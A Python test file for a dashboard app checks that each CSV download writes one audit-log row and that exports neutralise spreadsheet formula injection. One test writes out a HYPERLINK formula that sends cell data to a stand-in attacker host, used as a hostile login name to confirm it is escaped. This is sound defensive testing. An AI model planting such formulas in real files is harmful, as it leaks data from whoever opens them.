"""Every download is audited once per download, and every downloaded file is formula-safe.

Drawing a page writes no `download` row (a button drawn is not a download); each click on a
download button writes exactly one, with who, what, row count and filters (issue #17 item 4).
The hostile customer #9 carries formula payloads in its name, company, city and history, so
each file is also checked for live formulas (issue #13 item 4).
"""

from __future__ import annotations

import json

import pytest

from lib.stewardship import edits
from lib.core import warehouse
from tests import dashboards_fixture as fixture
from tests import factories as fx
from tests.app.downloads import click_download, static_downloads  # noqa: F401 - fixtures
from tests.app.helpers import as_user, login, open_page
from tests.unit.test_exports import NEUTRALISED, PAYLOADS, assert_csv_safe, csv_rows


@pytest.fixture
def small(warehouse_path, users):
    fixture.build()
    with warehouse.transaction() as tx:
        fx.customer(
            tx,
            9,
            full_name=PAYLOADS[0],
            company=PAYLOADS[1],
            city=PAYLOADS[2],
            registered_at=fixture.dt(2025, 1, 1),
            lifecycle_stage="customer",
            mobile="+8613700000009",
            name_pinyin="hyper|h|hyper",
        )
        fx.order(tx, 9, fixture.dt(2026, 5, 1), 120.0, category=PAYLOADS[3])
        tx.run(
            "INSERT INTO dedup_candidates (run_id, customer_id_l, customer_id_r, match_probability, "
            "match_weight, agreement) VALUES (1, 1, 9, 0.91, 6.0, "
            '\'{"full_name": {"level": 1, "label": "similar", "weight": 2.0}}\')'
        )
    edits.update_customer(users["steward"], 9, {"city": "=1+1"}, 1)  # in the 360° history
    return warehouse_path


def downloads_audited() -> list[dict]:
    frame = warehouse.read(
        "SELECT username, entity, entity_id, detail FROM audit_log WHERE action = 'download' ORDER BY audit_id"
    )
    return [
        {**r, "detail": json.loads(r["detail"]) if isinstance(r["detail"], str) else r["detail"]}
        for r in frame.to_dict("records")
    ]


# page, URL parameters, role, button key, what the audit row names, record
CASES = [
    ("app.py", {}, "manager", "home_revenue_csv", "chart:monthly_revenue", None),
    ("pages/01_overview.py", {}, "manager", "trend_customers_csv", "chart:monthly_customers", None),
    ("pages/01_overview.py", {}, "manager", "trend_revenue_csv", "chart:monthly_revenue", None),
    ("pages/02_customers.py", {"q": "9"}, "manager", "dash_search_csv", "customer_search", None),
    ("pages/03_customer_360.py", {"id": "9"}, "marketing", "timeline_csv", "customer_360:events", "9"),
    ("pages/03_customer_360.py", {"id": "9"}, "marketing", "orders_csv", "customer_360:orders", "9"),
    ("pages/03_customer_360.py", {"id": "9"}, "steward", "history_csv", "customer_360:history", "9"),
    ("pages/13_duplicates.py", {}, "steward", "dd_download", "duplicate_pairs", None),
    ("pages/20_rfm.py", {}, "marketing", "rfm_download", "rfm_summary", None),
]
# downloads in a tab that is not open at first (only the open tab is built): (tabs' key, label)
OPEN_TAB = {"history_csv": ("c360_tab", "Change history")}


@pytest.mark.parametrize(
    "page, params, role, key, what, record", CASES, ids=[f"{c[0].split('/')[-1]}-{c[3]}" for c in CASES]
)
def test_each_download_leaves_exactly_one_audit_row(small, click_download, page, params, role, key, what, record):
    at = as_user(role)
    for name, value in params.items():
        at.query_params[name] = value
    if key in OPEN_TAB:
        at.session_state[OPEN_TAB[key][0]] = OPEN_TAB[key][1]
    if page != "app.py":
        open_page(at, page)
    assert not at.exception, at.exception
    at.run()  # drawn twice: still no download
    assert downloads_audited() == []

    data = click_download(at, key)
    rows = csv_rows(data)
    assert_csv_safe(data)
    [entry] = downloads_audited()
    assert (entry["username"], entry["entity"], entry["entity_id"]) == (role, what, record)
    assert entry["detail"]["rows"] == len(rows) - 1 > 0
    assert entry["detail"]["columns"] == rows[0]
    assert entry["detail"]["format"] == "csv"

    click_download(at, key)  # a second download is a second row
    assert len(downloads_audited()) == 2


def test_search_download_records_the_filters_and_neutralises_the_hostile_customer(small, click_download):
    at = as_user("manager")
    at.query_params["q"] = "9"
    open_page(at, "pages/02_customers.py")
    rows = csv_rows(click_download(at, "dash_search_csv"))
    header, row = rows[0], rows[1]
    assert [row[header.index(c)] for c in ("customer_id", "full_name", "company", "city")] == [
        "9",
        NEUTRALISED[0],
        NEUTRALISED[1],
        "'=1+1",
    ]
    assert row[header.index("mobile")] == "'+86 *******0009"  # masked for a manager
    [entry] = downloads_audited()
    # how the entry was read (never the typed text: it may be a phone number or an e-mail)
    assert entry["detail"]["filters"] == {"searched_by": ["cid"], "page": 1, "matches": 1}
    assert entry["detail"]["masked"] is True


def test_overview_chart_download_records_the_dashboard_filters(small, click_download):
    at = open_page(as_user("manager"), "pages/01_overview.py")
    click_download(at, "trend_customers_csv")
    [entry] = downloads_audited()
    assert entry["detail"]["filters"] == {"from": "2025-06-01", "to": "2026-05-31"}  # the default window
    at.sidebar.multiselect(key="dash_f_channel").select("app").run()
    click_download(at, "trend_customers_csv")
    assert downloads_audited()[1]["detail"]["filters"] == {"from": "2025-06-01", "to": "2026-05-31", "ch": "app"}


def test_a_failed_login_with_a_formula_username_lands_inert_in_the_admins_audit_export(small, static_downloads):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    at = login(hostile, "not-a-password")
    assert not at.session_state["authentication_status"]

    at = open_page(as_user("admin"), "pages/31_audit.py")
    next(b for b in at.button if b.label == "Prepare CSV export").click()
    at.run()
    assert not at.exception, at.exception
    data = static_downloads["Download CSV"]
    assert_csv_safe(data)
    rows = csv_rows(data)
    usernames = [r[rows[0].index("username")] for r in rows[1:]]
    assert "'" + hostile in usernames and hostile not in usernames
    exported = warehouse.read("SELECT detail FROM audit_log WHERE action = 'audit.export'")
    assert len(exported) == 1  # the export itself is audited, once
